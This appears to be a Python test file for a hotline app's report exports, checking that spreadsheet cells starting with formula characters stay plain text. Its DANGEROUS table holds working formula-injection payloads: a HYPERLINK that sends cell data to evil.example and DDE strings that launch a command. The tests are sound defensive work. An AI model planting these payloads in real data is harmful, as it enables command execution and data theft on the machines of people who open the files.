"""Exports never hand a spreadsheet a formula: text starting with = + - @ tab or CR stays text.

A unit named by whoever edits data/units.toml (or any future text column) could otherwise
run `=HYPERLINK(…)` or `=cmd|…` on the supervisor's machine when the file is opened.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest

from hotline.reporting.export_cells import csv_cell
from hotline.reporting.exports import FIGURES, rates_csv, rates_xlsx

DANGEROUS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _figures(base: int) -> dict[str, Any]:
    return {f: (base + i if not f.endswith("_rate") else 0.5) for i, f in enumerate(FIGURES)}


def _report() -> dict[str, Any]:
    units = [
        {"unit": f"U{n}", "name": name, "kind": "department", **_figures(n)}
        for n, name in enumerate(DANGEROUS.values())
    ]
    units.append({"unit": "=1+1", "name": "A市住房和城乡建设局", "kind": "-x", **_figures(9)})
    units[-1]["reply_rate"] = None
    return {
        "from": "2026-11-01",
        "to": "2026-11-30",
        "filter": {"unit": "=1+1"},
        "overall": _figures(100),
        "units": units,
    }


def test_xlsx_keeps_formula_like_text_as_typed_text() -> None:
    wb = openpyxl.load_workbook(io.BytesIO(rates_xlsx(_report())))
    rows = list(wb["各单位"].iter_rows(min_row=3))  # after the header and the overall row
    for row, name in zip(rows, DANGEROUS.values(), strict=False):
        cell = row[1]
        assert cell.data_type == "s", repr(name)
        # Shown as typed, never evaluated (XML reads a lone CR back as a line feed).
        assert cell.value == name.replace("\r", "\n")
        assert cell.quotePrefix  # and Excel keeps it text when someone edits the cell
    last = rows[-1]
    assert (last[0].value, last[0].data_type) == ("=1+1", "s")
    assert (last[2].value, last[2].data_type) == ("-x", "s")
    assert last[1].value == "A市住房和城乡建设局" and not last[1].quotePrefix
    # Numbers stay numbers; a rate without a denominator stays an empty cell.
    assert last[3].value == 9 and last[3].data_type == "n"
    header = [c.value for c in wb["各单位"][1]]
    assert last[header.index("满意率")].value == 0.5
    assert last[header.index("回复率")].value is None
    scope = wb["总体"]["B2"]
    assert scope.value == "unit==1+1" and scope.data_type == "s"
    # Nothing anywhere in the workbook is a formula.
    assert not [c for ws in wb for r in ws.iter_rows() for c in r if c.data_type == "f"]


def test_csv_prefixes_formula_like_text_with_a_quote() -> None:
    text = rates_csv(_report()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = [row["单位名称"] for row in rows[1:]]
    assert names == ["'" + name for name in DANGEROUS.values()] + ["A市住房和城乡建设局"]
    assert rows[-1]["单位代码"] == "'=1+1" and rows[-1]["单位类型"] == "'-x"
    # Numbers are written as numbers, unprefixed; an empty rate stays empty.
    assert rows[-1]["派单数"] == "9" and rows[-1]["满意率"] == "0.5"
    assert rows[-1]["回复率"] == ""


@pytest.mark.parametrize("value", [-3, -0.5, 0, 12.5, None, "", "住建局", "'=already quoted"])
def test_values_that_are_not_formula_like_pass_unchanged(value: Any) -> None:
    assert csv_cell(value) == ("" if value is None else value)
